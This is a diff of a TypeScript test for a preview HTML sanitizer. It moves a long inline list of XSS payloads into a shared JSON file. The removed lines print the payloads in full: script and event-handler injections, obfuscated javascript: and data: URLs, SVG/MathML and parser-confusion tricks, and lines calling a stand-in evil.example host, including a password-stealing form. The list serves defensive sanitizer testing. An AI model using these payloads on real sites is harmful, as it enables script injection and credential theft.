@@ -7,93 +7,13 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
 import { CLI, tempWorkspace } from '../support/workspace';
 import { scanTags, textOf } from './html-scan';
 
-const PAYLOADS: string[] = [
-  // Scripts and handlers.
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-  'text <script>alert(1)',
-  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x.png" onerror="alert(1)"/>',
-  '<img src=x onerror=alert(1)//',
-  '<body onload=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<a href="#" onclick="alert(1)" onmouseover=alert(2)>x</a>',
-  '<video><source onerror=alert(1)></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<input type="image" src="https://evil.example/a.png" onfocus=alert(1) autofocus>',
-  '<div/onclick=alert(1)>x</div>',
-  '<img src=x onerror\t=\talert(1)>',
-  // Script URLs, with entity and whitespace tricks.
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="&#x6A;avascript:alert(1)">x</a>',
-  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
-  '<a href="java&#x0A;script:alert(1)">x</a>',
-  '<a href="jav\tascript:alert(1)">x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="javascript&colon;alert(1)">x</a>',
-  '<a href="javascript://%0aalert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  '<IMG SRC="javascript:alert(\'XSS\');">',
-  '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
-  '<img src="x.png" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(2)">',
-  '[md link](javascript:alert(1))',
-  '[md link](<javascript:alert(1)>)',
-  '[md link](javascript&#58;alert(1))',
-  '[ref link][evil]\n\n[evil]: javascript:alert(1)',
-  '![md image](javascript:alert(1))',
-  '![md image](data:text/html,<script>alert(1)</script>)',
-  '<javascript:alert(1)>',
-  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
-  '<div action="javascript:alert(1)" itemtype="javascript:alert(2)">x</div>',
-  '<img src="https://img.example/a.png" srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
-  '<picture><source srcset="javascript:alert(1)"><img src="a.png"></picture>',
-  // SVG and MathML.
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<svg><style>@import url(https://evil.example/x.css)</style></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<math href="javascript:alert(1)">x</math>',
-  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
-  // Frames, objects, forms, base, meta, link.
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="https://evil.example/">',
-  '<object data="https://evil.example/x.swf"><param name=x value=javascript:alert(1)></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<frameset onload=alert(1)>',
-  '<form action="https://evil.example/steal"><input name=password type=password><button>go</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<isindex action="javascript:alert(1)" type=image>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<a href="https://ok.example/" ping="https://evil.example/ping">x</a>',
-  // CSS tricks.
-  '<style>@import \'https://evil.example/x.css\'; body{background:url(https://evil.example/t.png)}</style>',
-  '<div style="background:url(https://evil.example/t.png)">x</div>',
-  '<div style="width: expression(alert(1))">x</div>',
-  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
-  '<video poster="https://evil.example/p.png"></video>',
-  // Parser confusion.
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<div><svg onload=alert(1)>',
-  '<table><tr><td><iframe src=https://evil.example>',
-  '<a href="javascript:alert(1)"',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-];
+/** The payloads, by kind (shared with the webview test in the real VS Code, test/e2e/ui/preview-hostile.mjs). */
+const PAYLOADS: string[] = Object.values(JSON.parse(readFileSync(path.join(__dirname, 'hostile-payloads.json'), 'utf8')) as Record<string, string[]>).flat();
 
 /** Elements that must never reach the preview. */
 const FORBIDDEN = new Set(['script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'param', 'svg', 'math', 'base', 'meta', 'link', 'form', 'button', 'select', 'textarea', 'template', 'noscript', 'xmp', 'isindex', 'video', 'audio', 'marquee', 'body', 'html', 'head', 'title', 'animate', 'use', 'maction']);
